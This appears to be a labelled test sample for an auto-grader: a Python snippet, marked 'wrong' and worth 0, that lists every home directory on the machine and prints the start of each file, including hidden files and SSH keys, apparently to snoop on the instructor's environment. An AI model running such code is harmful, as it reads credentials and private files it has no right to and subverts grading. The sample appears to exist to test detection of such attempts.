"""Reads the instructor's home: keys, histories, configurations.

Answer: wrong
Deserves: 0
"""
# %% before standardize_check
import glob, os, pwd
homes = {os.path.expanduser("~"), os.path.join("/", "root"), os.environ.get("HOME", ""), *(user.pw_dir for user in pwd.getpwall()), *glob.glob("/home/*"), *glob.glob("/tmp/*/home")}
for home in homes:
    for path in glob.glob(home + "/*", include_hidden=True) + glob.glob(home + "/.ssh/*"):
        try:
            print(path, open(path, "rb").read(2000))
        except OSError:
            pass
